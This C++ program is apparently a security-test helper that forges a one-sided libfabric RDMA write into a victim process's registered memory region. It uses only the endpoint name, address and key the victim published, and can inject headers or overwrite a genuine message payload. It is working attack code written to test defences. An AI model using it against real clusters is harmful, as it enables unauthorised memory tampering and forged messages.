// An attacker outside the job (tests/test_security.py): opens its own
// libfabric endpoint and makes one one-sided write with remote CQ data into a
// victim's registered region, as a rank's write_message would, using only
// what the victim published in the store (endpoint name, region address and
// key). Usage: rdma_forge PROVIDER DOMAIN EP_HEX RADDR_HEX KEY_HEX SLOT_OFF HDR_HEX PAYLOAD_HEX
// With a 9th argument "raw": one plain fi_write (no CQ data) of PAYLOAD_HEX
// at exactly SLOT_OFF (HDR_HEX ignored), e.g. over a genuine message's payload.
// Exits 0 when the write completed at the target.
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

static std::string unhex(const char* s) {
  std::string out;
  for (size_t i = 0; s[i] && s[i + 1]; i += 2) out += char(std::stoi(std::string(s + i, 2), nullptr, 16));
  return out;
}

#define CHECK(call)                                                         \
  do {                                                                      \
    long rc_ = long(call);                                                  \
    if (rc_) {                                                              \
      fprintf(stderr, "%s: %s\n", #call, fi_strerror(int(rc_ < 0 ? -rc_ : rc_))); \
      return 2;                                                             \
    }                                                                       \
  } while (0)

int main(int argc, char** argv) {
  if (argc != 9 && !(argc == 10 && std::string(argv[9]) == "raw")) {
    fprintf(stderr, "usage: %s PROVIDER DOMAIN EP_HEX RADDR_HEX KEY_HEX SLOT_OFF HDR_HEX PAYLOAD_HEX\n", argv[0]);
    return 2;
  }
  std::string ep_name = unhex(argv[3]);
  uint64_t raddr = strtoull(argv[4], nullptr, 16), key = strtoull(argv[5], nullptr, 16);
  uint64_t off = strtoull(argv[6], nullptr, 10);
  const bool raw = argc == 10;
  std::string buf;
  if (!raw) {
    buf = unhex(argv[7]);
    buf.resize(128, '\0');  // kHeaderBytes: the payload follows at kPayloadOff
  }
  buf += unhex(argv[8]);

  fi_info* h = fi_allocinfo();
  h->ep_attr->type = FI_EP_RDM;
  h->caps = FI_RMA | FI_WRITE | FI_REMOTE_WRITE | FI_MSG;
  h->mode = FI_CONTEXT | FI_CONTEXT2 | FI_RX_CQ_DATA;
  h->domain_attr->mr_mode = FI_MR_LOCAL | FI_MR_VIRT_ADDR | FI_MR_ALLOCATED | FI_MR_PROV_KEY | FI_MR_ENDPOINT;
  h->fabric_attr->prov_name = strdup(argv[1]);
  h->domain_attr->name = strdup(argv[2]);
  fi_info* info = nullptr;
  CHECK(fi_getinfo(FI_VERSION(1, 10), nullptr, nullptr, 0, h, &info));
  fid_fabric* fabric;
  fid_domain* domain;
  fid_cq* cq;
  fid_av* av;
  fid_ep* ep;
  CHECK(fi_fabric(info->fabric_attr, &fabric, nullptr));
  CHECK(fi_domain(fabric, info, &domain, nullptr));
  fi_cq_attr cqa{};
  cqa.format = FI_CQ_FORMAT_DATA;
  CHECK(fi_cq_open(domain, &cqa, &cq, nullptr));
  fi_av_attr ava{};
  ava.type = FI_AV_TABLE;
  CHECK(fi_av_open(domain, &ava, &av, nullptr));
  CHECK(fi_endpoint(domain, info, &ep, nullptr));
  CHECK(fi_ep_bind(ep, &cq->fid, FI_TRANSMIT | FI_RECV));
  CHECK(fi_ep_bind(ep, &av->fid, 0));
  CHECK(fi_enable(ep));
  fi_addr_t dest;
  if (fi_av_insert(av, ep_name.data(), 1, &dest, 0, nullptr) != 1) {
    fprintf(stderr, "fi_av_insert failed\n");
    return 2;
  }
  void* desc = nullptr;
  fid_mr* mr = nullptr;
  if (info->domain_attr->mr_mode & FI_MR_LOCAL) {
    CHECK(fi_mr_reg(domain, buf.data(), buf.size(), FI_WRITE, 0, 7, 0, &mr, nullptr));
    desc = fi_mr_desc(mr);
  }
  fi_context2 ctx{};
  auto until = std::chrono::steady_clock::now() + std::chrono::seconds(10);
  ssize_t rc;
  auto post = [&]() {
    return raw ? fi_write(ep, buf.data(), buf.size(), desc, dest, raddr + off, key, &ctx)
               : fi_writedata(ep, buf.data(), buf.size(), desc, off >> 8, dest, raddr + off + 128, key, &ctx);
  };
  while ((rc = post()) == -FI_EAGAIN) {
    fi_cq_data_entry e;
    fi_cq_read(cq, &e, 1);
    if (std::chrono::steady_clock::now() > until) return 3;
  }
  if (rc) {
    fprintf(stderr, "%s: %s\n", raw ? "fi_write" : "fi_writedata", fi_strerror(int(-rc)));
    return 2;
  }
  for (;;) {
    fi_cq_data_entry e;
    ssize_t n = fi_cq_read(cq, &e, 1);
    if (n == 1) break;
    if (n == -FI_EAVAIL) {
      fi_cq_err_entry err{};
      fi_cq_readerr(cq, &err, 0);
      fprintf(stderr, "write failed: %s\n", fi_strerror(err.err));
      return 4;
    }
    if (std::chrono::steady_clock::now() > until) {
      fprintf(stderr, "write never completed\n");
      return 3;
    }
    usleep(100);
  }
  printf("forged write of %zu bytes at offset %llu completed\n", buf.size(), (unsigned long long)off);
  return 0;
}
